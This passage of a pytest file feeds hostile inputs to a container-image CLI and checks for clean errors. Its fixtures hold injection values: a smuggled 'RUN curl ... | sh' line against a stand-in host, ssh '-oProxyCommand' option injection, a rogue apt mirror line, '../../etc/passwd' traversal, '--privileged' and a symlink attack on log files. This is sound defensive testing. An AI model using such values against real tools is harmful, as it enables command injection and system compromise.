"""A table of hostile inputs per command, through the real CLI: every one ends with a clear error and its own exit
code, never exit 1, a traceback or "unexpected error". Rows marked `# found` failed before their fix (exit 1 with
a Python error: ValueError, OSError ENAMETOOLONG, RecursionError), an endless read of /dev/zero, or a file named `-`."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import threading
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from conftest import REPO
from imgbuild.cli import app
from imgbuild.cli.cluster import app as cluster_app
from localindex import Index

runner = CliRunner()
GOOD_LOCK = json.loads((REPO / "recipes" / "cpu.lock.json").read_text())


def text(name: str, body: str | bytes) -> Callable[[Path], str]:
    def make(d: Path) -> str:
        p = d / name
        p.write_bytes(body if isinstance(body, bytes) else body.encode())
        return str(p)

    return make


def special(kind: str) -> Callable[[Path], str]:
    def make(d: Path) -> str:
        p = d / "x.yaml"
        if kind == "dir":
            p.mkdir()
        elif kind == "loop":
            p.symlink_to("x.yaml")
        elif kind == "fifo":
            os.mkfifo(p)
        return str(p)

    return make


RECIPES: dict[str, Callable[[Path], str]] = {
    "huge": text("huge.yaml", "description: " + "x" * (2 << 20) + "\n"),
    "deep flow nesting": text("n.yaml", "x: " + "[" * 100_000 + "\n"),
    "deep block nesting": text("b.yaml", "".join("  " * i + f"k{i}:\n" for i in range(3000)) + "  " * 3000 + "v\n"),
    "binary": text("bin.yaml", bytes(range(256)) * 16),
    "NUL byte": text("nul.yaml", b"description: a\x00b\n"),
    "a list": text("l.yaml", "- a\n- b\n"),
    "a number": text("s.yaml", "42\n"),
    "integer of 5000 digits": text(
        "big.yaml", "extends: cpu\nplatform: {devices_per_node: " + "9" * 5000 + "}\n"
    ),  # found
    "negative count": text("neg.yaml", "extends: cpu\nplatform: {devices_per_node: -1}\n"),
    "infinite count": text("inf.yaml", "extends: cpu\nplatform: {devices_per_node: .inf}\n"),
    "extends a number": text("e.yaml", "extends: 5\n"),
    "extends itself": text("self.yaml", "extends: self.yaml\n"),
    "extends a folder": text("ed.yaml", "extends: /tmp\n"),
    "extends /dev/zero": text("ez.yaml", "extends: /dev/zero\n"),
    "extends a 100000-character name": text("el.yaml", "extends: " + "a" * 100_000 + ".yaml\n"),  # found
    "components a list": text("c.yaml", "extends: cpu\ncomponents: [1, 2]\n"),
    "component a number": text("c2.yaml", "extends: cpu\ncomponents: {nccl: 5}\n"),
    "env nested": text("en.yaml", "extends: cpu\nenv: {A: {b: 1}}\n"),
    "env key null": text("ek.yaml", "extends: cpu\nenv: {null: a}\n"),
    "label key a list": text("lk.yaml", "extends: cpu\nlabels: {? [a, b] : c}\n"),
    "python tag": text("py.yaml", "extends: cpu\ndescription: !!python/object:os.system x\n"),
    "a symlink loop": special("loop"),
    "a FIFO": special("fifo"),
    "/dev/null": lambda d: "/dev/null",
    "a 5000-character name": lambda d: "a" * 5000,  # found
    "a path up and out": lambda d: "../../etc/passwd",
}


RECIPE_COMMANDS = [["show"], ["render"], ["lock", "--offline"]]


@pytest.mark.parametrize(
    ("case", "command"),
    [
        pytest.param(case, command, id=f"{case}-{command[0]}")
        for case in sorted(RECIPES)
        for command in RECIPE_COMMANDS
        if case != "a FIFO" or command[0] == "show"  # one command is enough for a FIFO
    ],
)
def test_hostile_recipes_are_recipe_errors(tmp_path: Path, case: str, command: list[str]) -> None:
    ref = RECIPES[case](tmp_path)
    result = runner.invoke(app, [command[0], ref, *command[1:]])
    clean(result)
    assert result.exit_code == 3, result.output[-2000:]


LOCKS: dict[str, str | bytes] = {
    "larger than 4 MiB": '{"a": "' + "x" * (5 << 20) + '"}',
    "nested 100000 deep": "[" * 100_000 + "]" * 100_000,  # found
    "objects nested 50000 deep": '{"a":' * 50_000 + "1" + "}" * 50_000,  # found
    "integer of 5000 digits": '{"lock_version": ' + "9" * 5000 + "}",  # found
    "binary": bytes(range(256)) * 8,
    "empty": "",
    "a list": "[]",
    "1e999999": "1e999999",
    "pins a list": json.dumps({**GOOD_LOCK, "pins": [1, 2]}),
    "a pin a number": json.dumps({**GOOD_LOCK, "pins": {"nccl": 5}}),
    "details a list": json.dumps(
        {**GOOD_LOCK, "pins": {**GOOD_LOCK["pins"], "nccl": {**GOOD_LOCK["pins"]["nccl"], "details": [1]}}}
    ),
    "warnings a string": json.dumps({**GOOD_LOCK, "warnings": "abc"}),
    "lock_version a string": json.dumps({**GOOD_LOCK, "lock_version": "1"}),
    "latin-1": b'{"recipe": "caf\xe9"}',
}


@pytest.mark.parametrize("command", [["show"], ["render"], ["build", "--no-pull"]], ids=lambda c: c[0])
@pytest.mark.parametrize("case", sorted(LOCKS))
def test_hostile_locks_are_lock_errors(tmp_path: Path, case: str, command: list[str]) -> None:
    """`build` reads the lock before it talks to the engine: these never reach Docker."""
    shutil.copy(REPO / "recipes" / "cpu.yaml", tmp_path / "cpu.yaml")
    data = LOCKS[case]
    (tmp_path / "cpu.lock.json").write_bytes(data if isinstance(data, bytes) else data.encode())
    result = runner.invoke(app, [command[0], str(tmp_path / "cpu.yaml"), *command[1:]])
    clean(result)
    assert result.exit_code == 4, result.output[-2000:]
    assert "cpu.lock.json" in result.output


@pytest.mark.parametrize("kind", ["a folder", "a symlink loop", "/dev/null"])
def test_a_lock_path_that_is_no_file_is_a_lock_error(tmp_path: Path, kind: str, cpu_wheels: Index) -> None:
    shutil.copy(REPO / "recipes" / "cpu.yaml", tmp_path / "cpu.yaml")
    lock = tmp_path / "cpu.lock.json"
    {"a folder": lambda: lock.mkdir(), "a symlink loop": lambda: lock.symlink_to(lock.name),
     "/dev/null": lambda: lock.symlink_to("/dev/null")}[kind]()  # fmt: skip
    for args in (["show", str(tmp_path / "cpu.yaml")], ["lock", str(tmp_path / "cpu.yaml")]):
        result = runner.invoke(app, args)
        clean(result)
        assert result.exit_code in (0, 4), result.output  # a lock written over /dev/null's link replaces the link


# (arguments, environment, exit code, a word the message holds); "{d}" is the test's folder, which holds a folder
# `folder`, a file `not.pem` that is no PEM bundle and a symlink loop `loop`.
OPTIONS: dict[str, tuple[list[str], dict[str, str], int, str]] = {
    "build-arg without =": (["build", "cpu", "--build-arg", "junk"], {}, 2, "KEY=VALUE"),  # found: exit 1
    # the cache refs and the builder's name: Docker's grammar / a buildx name, a usage error naming the option
    "cache-from junk": (["build", "cpu", "--cache-from", "Not A Ref"], {}, 2, "--cache-from"),
    "cache-from an option": (["build", "cpu", "--cache-from=--push"], {}, 2, "--cache-from"),
    "cache-from newline": (["build", "cpu", "--cache-from", "r/x:1\nRUN x"], {}, 2, "--cache-from"),
    "cache-to a digest": (["build", "cpu", "--cache-to", "r.io/c@sha256:" + "0" * 64], {}, 2, "--cache-to"),
    "cache-to type=local": (["build", "cpu", "--cache-to", "type=local,dest=/tmp/x"], {}, 2, "--cache-to"),
    "cache-to 5000 chars": (["build", "cpu", "--cache-to", "r.io/" + "a" * 5000], {}, 2, "--cache-to"),
    "builder an option": (["build", "cpu", "--builder=--help"], {}, 2, "--builder"),
    "builder with a space": (["build", "cpu", "--builder", "a b"], {}, 2, "--builder"),
    "IMGBUILD_BUILDER junk": (["build", "cpu"], {"IMGBUILD_BUILDER": "x;rm"}, 2, "builder"),
    "doctor --builder junk": (["doctor", "cpu", "--builder", "../x"], {}, 2, "--builder"),
    "build-arg without key": (["build", "cpu", "--build-arg", "=v"], {}, 2, "KEY=VALUE"),  # found: exit 1
    "ca-bundle a folder": (["build", "cpu", "--ca-bundle", "{d}/folder"], {}, 2, "ca-bundle"),  # found: exit 1
    "ca-bundle missing": (["build", "cpu", "--ca-bundle", "{d}/missing"], {}, 2, "ca-bundle"),  # found: exit 1
    "ca-bundle not PEM": (["build", "cpu", "--ca-bundle", "{d}/not.pem"], {}, 2, "PEM"),  # found: exit 1
    "ca-bundle a symlink loop": (["build", "cpu", "--ca-bundle", "{d}/loop"], {}, 2, "ca-bundle"),  # found: exit 1
    "ca-bundle /dev/zero": (["build", "cpu", "--ca-bundle", "/dev/zero"], {}, 2, "regular file"),  # found: endless
    "IMGBUILD_CA_BUNDLE a folder": (["build", "cpu"], {"IMGBUILD_CA_BUNDLE": "{d}/folder"}, 2, "ca-bundle"),  # found
    "verify --nodes -1": (["verify", "cpu", "--nodes", "-1"], {}, 2, "nodes"),
    "verify --nodes 10**22": (["verify", "cpu", "--nodes", "1" + "0" * 22], {}, 2, "nodes"),  # found: OverflowError
    "verify --host junk": (["verify", "cpu", "--host", "junk"], {}, 11, "host"),
    "verify --host ssh://": (["verify", "cpu", "--host", "ssh://"], {}, 11, "host"),  # found: exit 1 (testinfra)
    "push --retries -1": (["push", "cpu", "--retries", "-1"], {}, 2, "retries"),
    "push --retries 10**20": (["push", "cpu", "--retries", "1" + "0" * 20], {}, 2, "retries"),
    "push --registry NUL": (["push", "cpu", "--registry", "\x00.com"], {}, 2, "registry"),  # found: exit 8, engine
    "push --registry 5000 chars": (["push", "cpu", "--registry", "a" * 5000 + ".com"], {}, 2, "registry"),  # found: 8
    "IMGBUILD_REGISTRY junk": (["push", "cpu"], {"IMGBUILD_REGISTRY": "junk"}, 2, "registry"),
    "IMGBUILD_REGISTRY control": (["push", "cpu"], {"IMGBUILD_REGISTRY": "\x01"}, 2, "registry"),
    "render -o a file": (["render", "cpu", "-o", "{d}/not.pem"], {}, 6, "not.pem"),  # found: exit 1
    "render -o a symlink loop": (["render", "cpu", "-o", "{d}/loop"], {}, 6, "loop"),  # found: exit 1
    "render -o under /proc": (["render", "cpu", "-o", "/proc/imgbuild-nope"], {}, 6, "cannot write"),  # found: exit 1
    "matrix of a 5000-character name": (["matrix", "a" * 5000], {}, 3, "recipe"),
    # DOCKER_HOST that is no engine address: the engine's error (8) naming the variable and its forms, not ValueError
    "build DOCKER_HOST=tcp://:abc": (["build", "cpu"], {"DOCKER_HOST": "tcp://:abc"}, 8, "expected unix://"),  # found
    "verify DOCKER_HOST=tcp://:abc": (["verify", "cpu"], {"DOCKER_HOST": "tcp://:abc"}, 8, "DOCKER_HOST"),  # found
    "push DOCKER_HOST=tcp://:abc": (
        ["push", "cpu", "--registry", "127.0.0.1:5000"],
        {"DOCKER_HOST": "tcp://:abc"},
        8,
        "DOCKER_HOST",
    ),  # found: exit 1
    "build DOCKER_HOST port 99999": (["build", "cpu"], {"DOCKER_HOST": "tcp://h:99999"}, 8, "DOCKER_HOST"),  # found
    "build DOCKER_HOST IPv6 unclosed": (
        ["build", "cpu"],
        {"DOCKER_HOST": "tcp://[::1:2375"},
        8,
        "DOCKER_HOST",
    ),  # found
    "build DOCKER_HOST ssh port": (["build", "cpu"], {"DOCKER_HOST": "ssh://u@h:x"}, 8, "DOCKER_HOST"),  # found
    "build DOCKER_HOST scheme": (["build", "cpu"], {"DOCKER_HOST": "foo://x"}, 8, "expected unix://"),
    "build DOCKER_HOST host a..b": (["build", "cpu"], {"DOCKER_HOST": "tcp://a..b:1"}, 8, "expected unix://"),
    # IMGBUILD_STATE_DIR that cannot hold the build log: a usage error naming the variable, before the engine is asked
    "build IMGBUILD_STATE_DIR a file": (
        ["build", "cpu"],
        {"IMGBUILD_STATE_DIR": "{d}/not.pem"},
        2,
        "STATE_DIR",
    ),  # found
    "build IMGBUILD_STATE_DIR a loop": (["build", "cpu"], {"IMGBUILD_STATE_DIR": "{d}/loop"}, 2, "STATE_DIR"),  # found
    "build IMGBUILD_STATE_DIR /proc": (["build", "cpu"], {"IMGBUILD_STATE_DIR": "/proc/imgb"}, 2, "STATE_DIR"),  # found
    # base bootstrap: what is typed is checked before debootstrap runs (as root, for minutes)
    "bootstrap a name with a space": (["base", "bootstrap", "debian: bookworm"], {}, 2, "image name"),  # found: 1
    "bootstrap an uppercase name": (["base", "bootstrap", "Debian:bookworm"], {}, 2, "image name"),  # found: 1
    "bootstrap a 5000-character name": (["base", "bootstrap", "a" * 5000 + ":1"], {}, 2, "image name"),  # found: 1
    "bootstrap a digest": (["base", "bootstrap", "debian@sha256:" + "0" * 64], {}, 2, "image name"),  # found: 1
    "bootstrap an unknown tag": (["base", "bootstrap", "debian:potatoes"], {}, 2, "--suite"),  # found: exit 1
    "bootstrap another name": (["base", "bootstrap", "team/base:1"], {}, 2, "--mirror"),  # found: exit 1
    "bootstrap --variant fat": (
        ["base", "bootstrap", "debian:bookworm", "--variant", "fat"],
        {},
        2,
        "variant",
    ),  # found
    "bootstrap --mirror ftp": (
        ["base", "bootstrap", "debian:12", "--mirror", "ftp://m/debian"],
        {},
        2,
        "mirror",
    ),  # found
    "bootstrap --mirror newline": (
        ["base", "bootstrap", "debian:12", "--mirror", "http://m/debian\ndeb http://evil/ x main"],
        {},
        2,
        "mirror",
    ),
    "bootstrap --suite a path": (["base", "bootstrap", "debian:12", "--suite", "../../etc"], {}, 2, "suite"),  # found
    "bootstrap --suite an option": (["base", "bootstrap", "debian:12", "--suite=--foreign"], {}, 2, "suite"),  # found
}


@pytest.mark.parametrize("case", sorted(OPTIONS))
def test_hostile_options_and_environment(tmp_path: Path, case: str) -> None:
    (tmp_path / "folder").mkdir()
    (tmp_path / "not.pem").write_text("hello\n")
    (tmp_path / "loop").symlink_to("loop")
    args, env, code, says = OPTIONS[case]
    args = [a.replace("{d}", str(tmp_path)) for a in args]
    env = {k: v.replace("{d}", str(tmp_path)) for k, v in env.items()}
    result = runner.invoke(app, args, env=env)
    clean(result)
    assert result.exit_code == code, result.output[-2000:]
    assert says.lower() in result.output.lower()


# --- cluster report: the LOG and the outputs --------------------------------------------------------------------

NCCL_LOG = REPO / "tests/data/upstream/nccl-tests/slurm-pcluster_2x-g7e.8xlarge_nccl-2.29.2_ofi-1.18.0_efa.log"


def report(args: list[str], cwd: Path, stdin: Any = subprocess.DEVNULL) -> subprocess.CompletedProcess[str]:
    """`imgbuild cluster report ARGS` in a process of its own, with a deadline: an endless read fails the test
    instead of hanging it (or filling this process's memory)."""
    return subprocess.run(
        [sys.executable, "-m", "imgbuild", "cluster", "report", *args],
        cwd=cwd, stdin=stdin, capture_output=True, text=True, timeout=120,
    )  # fmt: skip


def flat(text: str) -> str:
    """Text without the box typer draws around a usage error, its words one space apart."""
    return " ".join(text.translate(str.maketrans("│╭╮╰╯─", "      ")).split())


def sparse(size: int) -> Callable[[Path], str]:
    def make(d: Path) -> str:
        p = d / "huge.log"
        with p.open("wb") as f:
            f.truncate(size)  # no disk used: a hole
        return str(p)

    return make


# LOG -> (exit code, what the message says)
REPORT_LOGS: dict[str, tuple[Callable[[Path], str], int, str]] = {
    "/dev/zero": (lambda d: "/dev/zero", 2, "/dev/zero: is a device"),  # found: read forever
    "/dev/null": (lambda d: "/dev/null", 2, "is a device"),  # found: judged as an empty log, FAIL (11)
    "a folder": (lambda d: str(d), 2, "is a folder"),
    "a symlink loop": (special("loop"), 2, "symbolic links"),
    "missing": (lambda d: str(d / "nope.log"), 2, "No such file"),
    "257 MiB (sparse)": (sparse(257 << 20), 2, "over the 256 MiB a log may be"),  # found: read whole, then judged
}


@pytest.mark.parametrize("case", sorted(REPORT_LOGS))
def test_report_logs_that_are_no_log(tmp_path: Path, case: str) -> None:
    make, code, says = REPORT_LOGS[case]
    log = make(tmp_path)
    result = report([log], cwd=tmp_path)
    assert result.returncode == code, result.stderr[-2000:]
    assert says in flat(result.stderr), result.stderr
    assert "Traceback" not in result.stderr


def test_report_stdin_is_read_up_to_its_cap(tmp_path: Path) -> None:
    """`report - < /dev/zero` (or an endless pipe): refused once 256 MiB have come, naming stdin."""
    with open("/dev/zero", "rb") as zero:
        result = report(["-"], cwd=tmp_path, stdin=zero)  # found: read forever
    assert result.returncode == 2, result.stderr[-2000:]
    assert "stdin: more than 256 MiB" in flat(result.stderr)


def test_report_reads_a_fifo_and_a_pipe(tmp_path: Path) -> None:
    """What is refused is a device or a folder: a FIFO (`<(kubectl logs ...)`) and a pipe on stdin are logs."""
    fifo = tmp_path / "log.fifo"
    os.mkfifo(fifo)
    writer = threading.Thread(target=lambda: fifo.write_bytes(NCCL_LOG.read_bytes()))
    writer.start()
    result = report([str(fifo)], cwd=tmp_path)
    writer.join(timeout=30)
    assert result.returncode == 0 and "PASS" in result.stdout, result.stderr
    with NCCL_LOG.open("rb") as f:
        piped = subprocess.run(
            [sys.executable, "-m", "imgbuild", "cluster", "report"], stdin=f, capture_output=True, text=True,
            cwd=tmp_path, timeout=120,
        )  # fmt: skip
    assert piped.returncode == 0 and "<stdin>" in piped.stdout, piped.stderr


def test_report_json_dash_is_stdout_and_the_table_goes_to_stderr(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(cluster_app, ["report", str(NCCL_LOG), "--json", "-"])
    clean(result)
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["verdict"] == "PASS"  # found: stdout held the table, JSON went to a file `-`
    assert "nccl-tests report:" in result.stderr and "PASS" in result.stderr
    assert list(tmp_path.iterdir()) == []  # no file named `-`


def test_report_junit_dash_is_stdout(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(cluster_app, ["report", str(NCCL_LOG), "--junit", "-", "--json", "r.json"])
    clean(result)
    assert result.exit_code == 0, result.output
    assert ET.fromstring(result.stdout).tag == "testsuites"  # found: a file `-`
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.json"]


def test_report_dot_slash_dash_is_a_file(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """Only `-` itself means stdout: `./-` names a file, as with other tools."""
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(cluster_app, ["report", str(NCCL_LOG), "--json", "./-"])
    assert result.exit_code == 0, result.output
    assert json.loads((tmp_path / "-").read_text())["verdict"] == "PASS"
    assert "nccl-tests report:" in result.stdout


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--plot", "-"], "a PNG is binary"),  # found: a PNG written to a file `-`
        (["--json", "-", "--junit", "-"], "only one of --json and --junit"),  # found: both to a file `-`
    ],
    ids=["plot", "json-and-junit"],
)
def test_report_refuses_dash_where_stdout_cannot_hold_it(tmp_path: Path, monkeypatch, args, says) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(cluster_app, ["report", str(NCCL_LOG), *args])
    clean(result)
    assert result.exit_code == 2, result.output
    assert says in flat(result.output)
    assert list(tmp_path.iterdir()) == []


# --- the state folder: the template cache is optional, the build log is not -------------------------------------


@pytest.mark.parametrize("kind", ["a file", "a symlink loop", "under /proc"])
def test_render_without_a_usable_state_folder_warns_and_renders(tmp_path: Path, kind: str) -> None:
    from imgbuild.image import render

    (tmp_path / "file").write_text("x\n")
    (tmp_path / "loop").symlink_to("loop")
    state = {"a file": str(tmp_path / "file"), "a symlink loop": str(tmp_path / "loop"), "under /proc": "/proc/imgb"}
    render.environment.cache_clear()  # the Jinja environment, and its cache, are made once per process
    try:
        result = runner.invoke(app, ["render", "cpu"], env={"IMGBUILD_STATE_DIR": state[kind]})
    finally:
        render.environment.cache_clear()
    clean(result)
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("# syntax") or "FROM " in result.stdout
    assert f"warning: IMGBUILD_STATE_DIR={state[kind]}: cannot keep compiled templates" in result.stderr  # found


@pytest.mark.docker
def test_the_build_log_never_follows_a_planted_link_nor_overwrites_a_log(
    tmp_path: Path, docker_client, cpu_image
) -> None:  # type: ignore[no-untyped-def]
    """The log's name is predictable (<recipe>-<UTC second>.log): a symlink planted there for every second of the
    next minutes is never followed, and a log already there (another build of the recipe in the same second) is
    never written over; the build takes the next free name, -2, -3 ..., and says which."""
    import datetime as dt

    logs = tmp_path / "state" / "logs"
    logs.mkdir(parents=True)
    victim = tmp_path / "victim"
    victim.write_text("keep\n")
    now = dt.datetime.now(dt.timezone.utc)
    for s in range(300):
        stamp = f"{now + dt.timedelta(seconds=s):%Y%m%dT%H%M%SZ}"
        (logs / f"cpu-{stamp}.log").symlink_to(victim)  # found: the build wrote through it
        (logs / f"cpu-{stamp}-2.log").write_text("another build's log\n")
    result = runner.invoke(app, ["build", "cpu"], env={"IMGBUILD_STATE_DIR": str(tmp_path / "state"), "CI": "1"})
    clean(result)
    assert result.exit_code == 0, result.output[-2000:]
    assert victim.read_text() == "keep\n"
    log = Path(result.stdout.split("log: ")[-1].strip())
    assert log.name.startswith("cpu-") and log.name.endswith("Z-3.log"), log
    assert not log.is_symlink() and "# imgbuild: built" in log.read_text()
    assert all(p.read_text() == "another build's log\n" for p in logs.glob("*-2.log"))


def clean(result) -> None:  # type: ignore[no-untyped-def]
    """No traceback, no "unexpected error", no exit 1, and no Python exception escaping the command."""
    assert result.exit_code != 1, result.output[-2000:]
    assert "Traceback" not in result.output and "unexpected error" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)


# --- what a recipe's app: section, its code folder and its pyproject.toml name -----------------------------------
# Each case builds a recipe folder (`r.yaml` extends cpu, a code folder `code/` holding train.py) with something
# hostile in it, then runs the commands a user runs: `lock --offline` (resolution: the program, the pyproject's
# name) and `render` (the code folder's files). Nothing is ever read outside the recipe's folder or the code folder,
# nothing is read unbounded, a FIFO never hangs the command, and whatever reaches the Dockerfile is checked first.


def _fifo(p: Path) -> None:
    os.mkfifo(p)


def _sparse(p: Path, size: int) -> None:
    with p.open("wb") as f:
        f.truncate(size)  # a hole: no disk used, and never read


def _pyproject(name: str) -> Callable[[Path], None]:
    return lambda d: (d / "code" / "pyproject.toml").write_text(f'[project]\nname = "{name}"\nversion = "1"\n')


# case -> (what to make in the recipe folder d, the recipe's app section, the command, exit code, what it says)
APP_CASES: dict[str, tuple[Callable[[Path], Any], str, str, int, str]] = {
    "code: a link loop": (
        lambda d: (d / "code" / "loop").symlink_to("loop"),
        "{code: {dir: code}}",
        "render",
        6,
        "loop is a link that",
    ),  # found: exit 1, RuntimeError
    "code: a link to /dev/zero": (
        lambda d: (d / "code" / "z").symlink_to("/dev/zero"),
        "{code: {dir: code}}",
        "render",
        6,
        "z is a link to",
    ),
    "code: a FIFO": (lambda d: _fifo(d / "code" / "f"), "{code: {dir: code}}", "render", 6, "is a FIFO"),
    "code: a link to a FIFO inside": (
        lambda d: (_fifo(d / "code" / "f"), (d / "code" / "g").symlink_to("f")),
        "{code: {dir: code, ignore: [f]}}",
        "render",
        6,
        "g is not copied",
    ),
    "code: a link to the root folder": (
        lambda d: (d / "code" / "all").symlink_to("/"),
        "{code: {dir: code}}",
        "render",
        6,
        "all is a link to /",
    ),
    "code: a link to a folder inside": (
        lambda d: (d / "code" / "sub").mkdir() or (d / "code" / "again").symlink_to("sub"),
        "{code: {dir: code}}",
        "render",
        6,
        "link to the folder",
    ),
    "code: a 1 TiB sparse file": (
        lambda d: _sparse(d / "code" / "big.bin", 1 << 40),
        "{code: {dir: code}}",
        "render",
        6,
        "more than 20000",
    ),  # found: read whole before the total was checked (MemoryError, exit 1)
    "code: a file name with a newline": (
        lambda d: (d / "code" / "a\nRUN x").write_text(""),
        "{code: {dir: code}}",
        "render",
        6,
        "one printable line",
    ),
    "code: the folder is a link loop": (
        lambda d: shutil.rmtree(d / "code") or (d / "code").symlink_to("code"),
        "{code: {dir: code}}",
        "lock",
        3,
        "symbolic link loop",
    ),
    "code: the folder holds the home folder": (lambda d: None, "{code: {dir: .}}", "lock", 3, "home folder"),
    "program: up and out": (
        lambda d: None,
        "{code: {dir: code}, program: ../r.yaml}",
        "lock",
        5,
        "not in the code folder",
    ),  # found: train's default program was /opt/ml/code/../r.yaml
    "program: a link out": (
        lambda d: (d / "code" / "p.py").symlink_to(d / "r.yaml"),
        "{code: {dir: code}, program: p.py}",
        "lock",
        5,
        "outside",
    ),
    "program: ignored": (
        lambda d: None,
        "{code: {dir: code, ignore: ['*.py']}, program: train.py}",
        "lock",
        5,
        "left out of the image",
    ),  # found: locked, and the image had no program
    "pyproject: a name with a newline": (
        _pyproject("x\\nRUN curl -s http://example.invalid | sh"),
        "{code: {dir: code, install: true}}",
        "lock",
        5,
        "[project] name: expected a distribution name",
    ),  # found: the name reached a comment line of the Dockerfile, and the line after it was an instruction
    "pyproject: a name that is an option": (
        _pyproject("--index-url=http://example.invalid"),
        "{code: {dir: code, install: true}}",
        "lock",
        5,
        "[project] name",
    ),
    "pyproject: a FIFO": (
        lambda d: _fifo(d / "code" / "pyproject.toml"),
        "{code: {dir: code, install: true}}",
        "lock",
        5,
        "is a FIFO",
    ),  # found: waited forever for a writer
    "pyproject: a link to /dev/zero": (
        lambda d: (d / "code" / "pyproject.toml").symlink_to("/dev/zero"),
        "{code: {dir: code, install: true}}",
        "lock",
        5,
        "outside",
    ),
    "pyproject: 2 MiB (sparse)": (
        lambda d: _sparse(d / "code" / "pyproject.toml", 2 << 20),
        "{code: {dir: code, install: true}}",
        "lock",
        5,
        "over the 1 MiB",
    ),  # found: read whole
    "requirements file: a FIFO": (lambda d: _fifo(d / "req.txt"), "{requirements: req.txt}", "lock", 3, "is a FIFO"),
    "requirements file: 2 MiB (sparse)": (
        lambda d: _sparse(d / "req.txt", 2 << 20),
        "{requirements: req.txt}",
        "lock",
        3,
        "over the 1 MiB",
    ),  # found: read whole
    "requirements file: a link loop": (
        lambda d: (d / "req.txt").symlink_to("req.txt"),
        "{requirements: req.txt}",
        "lock",
        3,
        "symbolic link loop",
    ),
    "requirements file: a link to /dev/zero": (
        lambda d: (d / "req.txt").symlink_to("/dev/zero"),
        "{requirements: req.txt}",
        "lock",
        3,
        "outside",
    ),
}


@pytest.mark.parametrize("case", sorted(APP_CASES))
def test_hostile_app_folders(tmp_path: Path, case: str) -> None:
    make, app_text, command, code, says = APP_CASES[case]
    d = tmp_path / "home"
    (d / "code").mkdir(parents=True)
    (d / "code" / "train.py").write_text("print('training')\n")
    (d / "r.yaml").write_text(f"extends: cpu\napp: {app_text}\n")
    make(d)
    env = {"HOME": str(d)} if "home folder" in case else {}  # HOME elsewhere: uv's cache is under it
    args = ["lock", str(d / "r.yaml"), "--offline"] if command == "lock" else ["render", str(d / "r.yaml")]
    if command == "render":
        locked = runner.invoke(app, ["lock", str(d / "r.yaml"), "--offline"], env=env)
        assert locked.exit_code == 0, locked.output[-2000:]
    result = runner.invoke(app, args, env=env)
    clean(result)
    assert result.exit_code == code, result.output[-2000:]
    assert says in flat(result.output), result.output[-2000:]
    assert "RUN curl" not in result.stdout


def test_a_program_in_the_code_folder_is_trains_default(tmp_path: Path) -> None:
    """The rules above refuse only what leaves the folder: `./sub/../train.py` is train.py."""
    (tmp_path / "code" / "sub").mkdir(parents=True)
    (tmp_path / "code" / "train.py").write_text("print('training')\n")
    (tmp_path / "r.yaml").write_text("extends: cpu\napp: {code: {dir: code}, program: ./sub/../train.py}\n")
    assert runner.invoke(app, ["lock", str(tmp_path / "r.yaml"), "--offline"]).exit_code == 0
    result = runner.invoke(app, ["render", str(tmp_path / "r.yaml")])
    assert result.exit_code == 0, result.output[-2000:]
    assert "train runs /opt/ml/code/train.py when the job names no program" in result.stdout


def test_the_code_probe_never_reads_outside_the_tree_nor_a_fifo(tmp_path: Path) -> None:
    """verify's probe (probes/codetree.py, run as it runs in the container): a link out of the folder is an entry of
    its own, never read; a FIFO is never opened (the probe would wait for a writer)."""
    from imgbuild.probes import codetree

    (tmp_path / "tree").mkdir()
    (tmp_path / "tree" / "train.py").write_text("print('training')\n")
    (tmp_path / "secret").write_text("key\n")
    os.mkfifo(tmp_path / "tree" / "fifo")
    probe = [sys.executable, codetree.__file__, str(tmp_path / "tree")]
    before = json.loads(subprocess.run(probe, capture_output=True, text=True, timeout=60, check=True).stdout)
    assert before["files"] == 1
    (tmp_path / "tree" / "key").symlink_to(tmp_path / "secret")
    after = json.loads(subprocess.run(probe, capture_output=True, text=True, timeout=60, check=True).stdout)
    sha = codetree.file_sha256(str(tmp_path / "tree" / "train.py"))
    assert after["digest"] == codetree.digest([("train.py", False, sha), ("key", False, "outside")])


# --- what a user gives never becomes an option of another program ------------------------------------------------

# (arguments, environment, exit code, what the message says)
OPTION_INJECTION: dict[str, tuple[list[str], dict[str, str], int, str]] = {
    # testinfra hands the host to ssh with no `--`: `ssh ... -oProxyCommand=x cmd` would run x
    "verify --host ssh://-oProxyCommand=x": (["verify", "cpu", "--host", "ssh://-oProxyCommand=x"], {}, 11, "'-'"),
    "verify --host ssh://-E.log@h": (["verify", "cpu", "--host", "ssh://-E.log@h"], {}, 11, "'-'"),  # found: ran ssh
    # the docker CLI hands an ssh DOCKER_HOST's user and host to ssh
    "DOCKER_HOST=ssh://-oProxyCommand=x": (["build", "cpu"], {"DOCKER_HOST": "ssh://-oProxyCommand=x"}, 8, "'-'"),
    "DOCKER_HOST=ssh://-x@h": (["build", "cpu"], {"DOCKER_HOST": "ssh://-x@h"}, 8, "'-'"),
    "run --image=--privileged": (["run", "cpu", "--print", "--image=--privileged"], {}, 2, "--image"),  # found: 0
    "sbom --image=--x": (["sbom", "cpu", "--image=--x"], {}, 2, "--image"),
}


@pytest.mark.parametrize("case", sorted(OPTION_INJECTION))
def test_no_value_becomes_an_option_of_another_program(case: str) -> None:
    args, env, code, says = OPTION_INJECTION[case]
    result = runner.invoke(app, args, env=env)
    clean(result)
    assert result.exit_code == code, result.output[-2000:]
    assert says in flat(result.output)
    assert "--privileged" not in result.stdout  # `run --print` printed a docker line with it before


def test_ssh_to_the_hosts_of_a_live_check_ends_its_options_before_the_host() -> None:
    """`cluster test`'s ssh command lines: `--` before the host, whatever comes after it (the remote command)."""
    from imgbuild.cluster import live

    nodes = live.SshNodes(["h1"], port=3022, user="root", key=None)
    try:
        argv = nodes._argv("h1", "-O", "exit")
        assert argv[-2:] == ["--", "h1"] and argv.index("-O") < argv.index("--")
